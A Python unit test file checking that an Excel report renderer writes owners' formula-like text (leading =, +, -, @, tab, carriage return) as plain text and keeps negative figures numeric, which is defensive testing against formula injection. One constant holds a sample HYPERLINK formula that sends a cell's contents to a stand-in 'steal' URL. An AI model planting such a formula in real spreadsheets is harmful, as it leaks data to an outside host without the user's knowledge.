"""The Excel report runs no formula, whatever owners typed, and keeps figures as numbers."""

from __future__ import annotations

import dataclasses
import io

import openpyxl

from tests.unit.report_samples import cover, education_board_facts, item
from tracker.domain.reports.assembly import UpdateText, assemble_education_board
from tracker.domain.reports.documents import document_for
from tracker.domain.reports.layout import Cell, Document, Sheet, Table
from tracker.reports.excel import render_excel

HYPERLINK = '=HYPERLINK("https://example.org/steal?d="&A1,"Click for details")'


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_owners_text_that_looks_like_formulas_is_written_as_text():
    hostile = UpdateText(
        progress=HYPERLINK, evidence="+1", impact="-2", next_steps="@SUM(A1)", mitigation="=1"
    )
    facts = education_board_facts()
    hostile_item = dataclasses.replace(
        item(9, "P1/009", ["amber", "red"], update=hostile), text="=1+1", owner="@Owner"
    )
    facts = dataclasses.replace(facts, items=(*facts.items, hostile_item))
    content = render_excel(document_for(assemble_education_board(facts)))
    found = cells(content)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    texts = {cell.value for cell in found if cell.data_type == "s"}
    for text in (HYPERLINK, "+1", "-2", "@SUM(A1)", "=1+1"):
        assert any(text in value for value in texts), text


def test_negative_figures_stay_numbers_and_text_stays_text():
    table = Table(
        caption="Change",
        columns=("Measure", "Change", "Note"),
        rows=(
            (Cell("Overall absence"), Cell("-2.5", value=-2.5, places=1), Cell("-2")),
            (Cell("\t=1"), Cell("-3", value=-3), Cell("\r=1")),
        ),
    )
    document = Document(
        kind="test",
        title="Test",
        file_stem="test",
        cover=cover(),
        blocks=(table,),
        sheets=(Sheet(name="Change", title="Change", tables=(table,)),),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(render_excel(document)))["Change"]
    rows = [row for row in sheet.iter_rows() if row[0].value in ("Overall absence", "\t=1")]
    assert [(cell.data_type, cell.value) for cell in (rows[0][1], rows[1][1])] == [
        ("n", -2.5),
        ("n", -3),
    ]
    # Text stays text; the carriage return is kept as Excel's escape for it.
    assert [(cell.data_type, cell.value) for cell in (rows[0][2], rows[1][0], rows[1][2])] == [
        ("s", "-2"),
        ("s", "\t=1"),
        ("s", "_x000D_=1"),
    ]
